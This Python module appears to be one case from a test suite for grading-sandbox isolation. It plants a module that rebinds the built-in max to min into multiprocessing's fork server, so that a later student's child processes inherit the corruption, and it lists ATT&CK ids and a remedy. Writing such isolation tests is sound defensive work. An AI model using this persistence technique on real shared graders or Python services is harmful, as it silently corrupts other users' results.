# SPDX-License-Identifier: MIT
"""Goal:  the next student's right answer becomes wrong.
Means: multiprocessing's fork server, a process that starts at first use and then serves the whole
       life of its parent. Started by the attacker, it loads the attacker's module, and everybody's
       child processes are forked from it. What a fork copies is not fresh.

    warm process --first use--> fork server: import planted (max is min now)
          |                          |
    honest student: Pool ----------> fork: child with the wrong max
"""

import multiprocessing.forkserver
import os

from attack import DONE, attempting, denied, failed, honest, submit

PLANTED = "import builtins\nbuiltins.max = min\n"


def run(brief):
    folder = f"/tmp/{brief.name}"
    submit("0")
    attempting()
    if brief.again:
        return DONE
    try:
        os.mkdir(folder)
        with open(f"{folder}/planted.py", "w") as file:
            file.write(PLANTED)
        os.environ["PYTHONPATH"] = folder
        multiprocessing.set_forkserver_preload(["planted"])
        multiprocessing.forkserver.ensure_running()
        del os.environ["PYTHONPATH"]
    except OSError as why:
        return denied("fork server", why)
    return DONE


def victim(brief):
    """Calculates in another process, where that can be had, else in this one."""
    try:
        with multiprocessing.get_context("forkserver").Pool(1) as pool:
            most = pool.apply_async(max, ((3, 9, 4),)).get(timeout=3)
    except (OSError, EOFError, multiprocessing.TimeoutError):
        most = max(3, 9, 4)
    return honest(brief) if most == 9 else failed("the maximum", most)


ATTACK = {
    "effect": "the next student's child processes run with the attacker's builtins",
    "means": "multiprocessing's fork server, started with the attacker's module in it",
    "oracle": "grade:spoiled",
    "scene": "before-victim",
    "grader": "rpc",
    "control": "in-process",
    "id": "WARM-15",
    "attack_id": "T1574, T1543, CWE-459",
    "remedy": "end every process of a submission, the fork server too, before the next starts",
    "refs": ["multiprocessing, Contexts and start methods"],
    "run": run,
    "victim": victim,
}
